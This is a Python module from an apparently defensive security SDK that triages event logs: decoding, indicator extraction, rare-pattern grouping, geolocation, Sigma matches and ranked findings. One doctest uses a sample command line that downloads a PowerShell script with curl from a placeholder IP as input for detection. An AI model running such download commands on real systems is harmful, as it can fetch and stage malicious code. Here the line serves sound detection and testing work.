"""``run_triage``: load -> decode -> indicators -> patterns -> geolocation, timed per stage."""

from __future__ import annotations

import time
import warnings
from collections.abc import Callable
from concurrent.futures import Executor
from typing import TYPE_CHECKING, Any

import attrs
import pandas as pd

from asisdk.errors import ConfigurationError, InvalidArgumentError
from asisdk.pipeline import _defaults
from asisdk.pipeline._allow import AllowList
from asisdk.pipeline._columns import EventColumns, detect_columns, with_event_text
from asisdk.pipeline._findings import FindingWeights, SigmaLevel, build_findings, require_level
from asisdk.pipeline._load import LoadedEvents, with_times
from asisdk.pipeline._stages import (
    DEFAULT_IOC_TYPES,
    decode_events,
    extract_iocs,
    find_patterns,
    geolocate_iocs,
    identifier_hash_mask,
    noise_address_mask,
    rank_iocs,
    summarise_iocs,
)
from asisdk.schema import CANONICAL_COLUMNS, normalise_events

if TYPE_CHECKING:
    from asisdk.geo import GeoIpDatabase

__all__ = [
    "STAGES",
    "SigmaSource",
    "StageTiming",
    "TriageOptions",
    "TriageResult",
    "rerank_findings",
    "run_triage",
]

#: The stages of :func:`run_triage`, in order (``vt`` and ``report`` run after it).
STAGES: tuple[str, ...] = ("decode", "iocs", "patterns", "geo", "findings")

#: Sigma matches for :func:`run_triage`: a frame of :data:`SIGMA_MATCH_COLUMNS` whose
#: ``event_index`` is the index of the events given, or a function that returns one (or an
#: object with such a ``frame``, like ``asisdk.sigma.SigmaMatches``) from the triaged events,
#: e.g. ``SigmaRules.match``.
SigmaSource = pd.DataFrame | Callable[[pd.DataFrame], Any]

#: Called with a stage name when the stage starts.
StageCallback = Callable[[str], None]


@attrs.frozen(kw_only=True)
class TriageOptions:
    """What :func:`run_triage` looks at.

    Attributes:
        text_columns: command line / message columns (default: detected).
        time_column: the time column (default: detected).
        ioc_types: indicator types extracted (default: all but file paths).
        since: keep only events at most this old (needs a time column); ``None`` keeps all.
        rare_min_events: a pattern with at most this many events is rare ...
        rare_share: ... or with at most this share of the events with text.
        timezone: the IANA time zone of a local-time column (``TimeGenerated [Local
            Time]``); such a column is refused without one, never taken as UTC.
        keep_noise_addresses: keep unspecified, loopback, link-local, multicast and
            broadcast addresses as indicators (default: set aside; see
            :data:`asisdk.pipeline._stages.NOISE_IP_TYPES`). ``ioc_hits`` always has them.
        min_level: Sigma matches below this level are not reasons for a finding.
        weights: the points of each reason of a finding (:class:`FindingWeights`).
        allow: the team's benign noise (:class:`AllowList`): allowed indicators are left out
            of ``iocs`` and allowed images / command lines are not findings.

    Examples:
        >>> "windows_path" in TriageOptions(text_columns=("CommandLine",)).ioc_types
        False
    """

    text_columns: tuple[str, ...] = ()
    time_column: str | None = None
    ioc_types: tuple[str, ...] = DEFAULT_IOC_TYPES
    since: pd.Timedelta | None = None
    rare_min_events: int = _defaults.RARE_MIN_EVENTS
    rare_share: float = _defaults.RARE_SHARE
    keep_noise_addresses: bool = False
    min_level: SigmaLevel = "low"
    weights: FindingWeights = attrs.field(factory=FindingWeights)
    allow: AllowList | None = None
    timezone: str | None = None

    def __attrs_post_init__(self) -> None:
        require_level(self.min_level, ConfigurationError)


@attrs.frozen(kw_only=True)
class StageTiming:
    """Wall time of one stage.

    Attributes:
        stage: the stage name (``load``, ``decode``, ``iocs``, ``patterns``, ``geo``,
            ``vt``, ``report``).
        seconds: wall time.
        rows: rows the stage produced.
    """

    stage: str
    seconds: float
    rows: int


@attrs.frozen(kw_only=True, eq=False)
class TriageResult:
    """Everything a triage found; :func:`asisdk.pipeline.write_report` turns it into files.

    Attributes:
        loaded: the input events and their problems (skipped rows, bad values).
        columns: the column roles used.
        events: the events triaged (after ``since``), with a ``pattern_id`` column.
        decoded: one row per decoded layer (:data:`DECODED_COLUMNS`).
        ioc_hits: one row per indicator per place found (:data:`IOC_COLUMNS`).
        iocs: one row per distinct indicator, most suspicious first
            (:func:`asisdk.pipeline._stages.rank_iocs`), without noise addresses unless
            kept, with geolocation and VirusTotal columns when those ran.
        patterns: one row per pattern, rarest first (:data:`PATTERN_COLUMNS`).
        geo_attribution: the attribution text of the GeoIP database (``None``: not run).
        geo_note: why geolocation did not run, when it did not.
        vt_note: what happened with VirusTotal (``None``: not asked).
        timings: wall time per stage.
        removed_by_since: events left out by ``since``.
        noise_addresses: distinct noise addresses set aside from ``iocs``.
        findings: the ranked findings (:data:`FINDING_COLUMNS`), best first.
        finding_reasons: one row per reason of a finding (``rank``, ``kind``, ``points``,
            ``evidence``).
        sigma_matches: the Sigma matches given (``None``: Sigma did not run).
        allowed_iocs: distinct indicators left out by the allow-list.
        identifier_hashes: hash-shaped hits dropped because the event names them as ids.
    """

    loaded: LoadedEvents
    columns: EventColumns
    events: pd.DataFrame
    decoded: pd.DataFrame
    ioc_hits: pd.DataFrame
    iocs: pd.DataFrame
    patterns: pd.DataFrame
    geo_attribution: str | None = None
    geo_note: str | None = None
    vt_note: str | None = None
    timings: tuple[StageTiming, ...] = ()
    removed_by_since: int = 0
    noise_addresses: int = 0
    findings: pd.DataFrame = attrs.field(factory=pd.DataFrame)
    finding_reasons: pd.DataFrame = attrs.field(factory=pd.DataFrame)
    sigma_matches: pd.DataFrame | None = None
    allowed_iocs: int = 0
    identifier_hashes: int = 0

    @property
    def rare_patterns(self) -> pd.DataFrame:
        """The rare patterns, rarest first."""
        return self.patterns[self.patterns["rare"].astype(bool)]

    def with_timing(self, stage: str, seconds: float, rows: int) -> TriageResult:
        """Return a copy with one more stage timing (``vt``, ``report`` run after triage)."""
        timing = StageTiming(stage=stage, seconds=seconds, rows=rows)
        return attrs.evolve(self, timings=(*self.timings, timing))


def _since(
    frame: pd.DataFrame, column: str | None, since: pd.Timedelta | None
) -> tuple[pd.DataFrame, int]:
    if since is None or column is None:
        return frame, 0
    cutoff = pd.Timestamp.now(tz="UTC") - since
    keep = frame[column] >= cutoff
    return frame[keep], int((~keep).sum())


def _with_canonical_columns(events: pd.DataFrame, timezone: str | None) -> pd.DataFrame:
    """The events with the canonical columns (:mod:`asisdk.schema`) they do not have yet.

    Whatever the input (EVTX, Sysmon JSON, ECS, Defender, Zeek, syslog, access or IIS logs),
    the triaged events and ``events.parquet`` carry ``asi_time``, ``asi_host``,
    ``asi_user``, ``asi_command_line`` ... beside their own columns. Text copied as it is
    shares its buffers with the source column.
    """
    missing = [c.name for c in CANONICAL_COLUMNS if c.name not in events.columns]
    if not missing:
        return events
    return normalise_events(events, timezone=timezone, columns=missing)


def _timed(
    timings: list[StageTiming], stage: str, progress: StageCallback | None, func: Any
) -> Any:
    if progress is not None:
        progress(stage)
    start = time.perf_counter()
    value = func()
    rows = len(value[0] if isinstance(value, tuple) else value) if value is not None else 0
    timings.append(StageTiming(stage=stage, seconds=time.perf_counter() - start, rows=rows))
    return value


def run_triage(
    loaded: LoadedEvents,
    *,
    options: TriageOptions | None = None,
    executor: Executor | None = None,
    geo: GeoIpDatabase | None = None,
    geo_note: str | None = None,
    progress: StageCallback | None = None,
    sigma: SigmaSource | None = None,
    ti_verdicts: pd.DataFrame | None = None,
) -> TriageResult:
    """Decode, extract indicators, group patterns and geolocate a batch of events.

    Pure apart from the executor: nothing is written and nothing leaves the machine
    (VirusTotal runs afterwards with :func:`asisdk.pipeline.enrich_virustotal`).

    Args:
        loaded: events from :func:`load_events` or :func:`load_frame`.
        options: columns, indicator types, ``since``, rarity (default :class:`TriageOptions`).
        executor: where the CPU stages run (``InlineExecutor()`` for one worker, a
            ``ProcessPoolExecutor`` for several; default: see :mod:`asisdk.executors`).
        geo: an open :class:`~asisdk.geo.GeoIpDatabase`; ``None`` skips geolocation.
        geo_note: why there is no ``geo`` (shown in the report), e.g. ``--no-geo``.
        progress: called with each stage's name as it starts.
        sigma: Sigma matches (a frame of :data:`SIGMA_MATCH_COLUMNS`) or a function giving
            them for the triaged events, e.g. ``rules.match``; ``None``: no Sigma reasons.
        ti_verdicts: threat-intelligence verdicts (:data:`TI_VERDICT_COLUMNS`) of indicators.

    Returns:
        A :class:`TriageResult`.

    Windows events with no command line or message column get one built from their fields
    (:func:`asisdk.pipeline._columns.with_event_text`), so a log of logons triages too.

    Raises:
        InvalidInputError: a named column does not exist, no text column was found, or the
            time column holds local time and ``options.timezone`` is not set.

    Examples:
        >>> from asisdk.data import sample_events_frame
        >>> from asisdk.executors import InlineExecutor
        >>> from asisdk.pipeline import load_frame, run_triage
        >>> result = run_triage(load_frame(sample_events_frame()), executor=InlineExecutor())
        >>> len(result.events), result.columns.text
        (642, ('CommandLine', 'ParentCommandLine'))
    """
    opts = options or TriageOptions()
    if not opts.text_columns:
        loaded = attrs.evolve(loaded, frame=with_event_text(loaded.frame))
    columns = detect_columns(
        loaded.frame, text_columns=opts.text_columns or None, time_column=opts.time_column
    )
    if columns.time is not None:
        loaded = with_times(loaded, columns.time, timezone=opts.timezone)
    events, removed = _since(loaded.frame, columns.time, opts.since)
    events = _with_canonical_columns(events, opts.timezone)
    timings: list[StageTiming] = []
    decoded = _timed(
        timings, "decode", progress, lambda: decode_events(events, columns.text, executor=executor)
    )
    hits = _timed(
        timings,
        "iocs",
        progress,
        lambda: extract_iocs(
            events,
            [*columns.text, *columns.ip],
            decoded,
            types=opts.ioc_types,
            executor=executor,
        ),
    )
    id_hashes = identifier_hash_mask(hits, events)
    hits = hits[~id_hashes].reset_index(drop=True)
    iocs = summarise_iocs(hits, events, time_column=columns.time)
    noise = 0
    if not opts.keep_noise_addresses and len(iocs):
        is_noise = noise_address_mask(iocs)
        noise = int(is_noise.sum())
        iocs = iocs[~is_noise]
    allowed = 0
    if opts.allow is not None and len(iocs):
        is_allowed = opts.allow.indicator_mask(iocs)
        allowed = int(is_allowed.sum())
        iocs = iocs[~is_allowed]
    iocs = rank_iocs(iocs, hits, events)
    patterns, labels = _timed(
        timings,
        "patterns",
        progress,
        lambda: find_patterns(
            events,
            columns.text,
            time_column=columns.time,
            executor=executor,
            rare_min_events=opts.rare_min_events,
            rare_share=opts.rare_share,
            host_column=columns.host,
        ),
    )
    events = events.assign(pattern_id=labels)
    attribution = None
    if geo is not None:
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            located = _timed(timings, "geo", progress, lambda: geolocate_iocs(iocs, geo))
        iocs = iocs.merge(located, on="observable", how="left")
        attribution = geo.attribution
        geo_note = "; ".join(str(w.message) for w in caught) or geo_note
    if callable(sigma):
        # Timed, but not a progress stage: the command's stage list does not include it.
        matches = _timed(timings, "sigma", None, lambda: _sigma_frame(sigma(events)))
    else:
        matches = _sigma_frame(sigma)
    unranked = TriageResult(
        loaded=loaded,
        columns=columns,
        events=events,
        decoded=decoded,
        ioc_hits=hits,
        iocs=iocs,
        patterns=patterns,
        geo_attribution=attribution,
        geo_note=geo_note,
        removed_by_since=removed,
        noise_addresses=noise,
        sigma_matches=matches,
        allowed_iocs=allowed,
        identifier_hashes=int(id_hashes.sum()),
    )
    findings, reasons = _timed(
        timings, "findings", progress, lambda: _rank(unranked, ti_verdicts, opts)
    )
    return attrs.evolve(
        unranked, findings=findings, finding_reasons=reasons, timings=tuple(timings)
    )


def _rank(
    result: TriageResult, ti_verdicts: pd.DataFrame | None, opts: TriageOptions
) -> tuple[pd.DataFrame, pd.DataFrame]:
    """The findings and their reasons of a triage's inputs (its Sigma matches included)."""
    return build_findings(
        result.events,
        decoded=result.decoded,
        ioc_hits=result.ioc_hits,
        iocs=result.iocs,
        host_column=result.columns.host,
        time_column=result.columns.time,
        sigma_matches=result.sigma_matches,
        ti_verdicts=ti_verdicts,
        allow=opts.allow,
        weights=opts.weights,
        min_level=opts.min_level,
        rare_min_events=opts.rare_min_events,
        rare_share=opts.rare_share,
        text_columns=result.columns.text,
    )


def rerank_findings(
    result: TriageResult,
    *,
    ti_verdicts: pd.DataFrame | None = None,
    options: TriageOptions | None = None,
) -> TriageResult:
    """The result with its findings ranked again, now knowing threat-intelligence verdicts.

    Threat intelligence is asked about the triage's own indicators, so it answers after the
    first ranking: this ranks again with the verdicts (``known_good`` and GreyNoise-benign
    answers demote, malicious ones promote), keeping the Sigma matches and every other input.

    Args:
        result: a :func:`run_triage` result.
        ti_verdicts: the verdicts (:data:`TI_VERDICT_COLUMNS`).
        options: the options the triage ran with (the default options if not given).

    Example:
        >>> from asisdk.pipeline import load_frame, run_triage
        >>> import pandas as pd
        >>> events = pd.DataFrame({"CommandLine": ["curl http://203.0.113.7/a.ps1 -o a.ps1"]})
        >>> first = run_triage(load_frame(events))
        >>> verdicts = pd.DataFrame({"value": ["http://203.0.113.7/a.ps1"],
        ...     "verdict": ["malicious"], "severity": [90]})
        >>> again = rerank_findings(first, ti_verdicts=verdicts)
        >>> "threat_intel" in again.findings["reason_kinds"].iloc[0]
        True
    """
    findings, reasons = _rank(result, ti_verdicts, options or TriageOptions())
    return attrs.evolve(result, findings=findings, finding_reasons=reasons)


_SIGMA_ALIASES: dict[str, str] = {
    "index": "event_index",
    "src_index": "event_index",
    "rule id": "rule_id",
    "rule_title": "title",
    "id": "rule_id",
    "techniques": "technique",
}


def _sigma_frame(found: object) -> pd.DataFrame | None:
    """Sigma matches with the column names :func:`build_findings` reads."""
    if found is None:
        return None
    matches = found if isinstance(found, pd.DataFrame) else getattr(found, "frame", None)
    if not isinstance(matches, pd.DataFrame):
        raise InvalidArgumentError(
            f"sigma= gave {type(found).__name__}: expected a DataFrame of Sigma matches or an "
            "object with one as .frame"
        )
    renamed = {c: _SIGMA_ALIASES[str(c)] for c in matches.columns if str(c) in _SIGMA_ALIASES}
    renamed = {c: n for c, n in renamed.items() if n not in matches.columns}
    out = matches.rename(columns=renamed)
    if "event_index" not in out.columns:
        # A frame indexed by the events it matched.
        out = out.rename_axis("event_index").reset_index()
    wanted = ("title", "level", "technique", "author", "rule_id")
    return out.assign(**{name: "" for name in wanted if name not in out.columns})
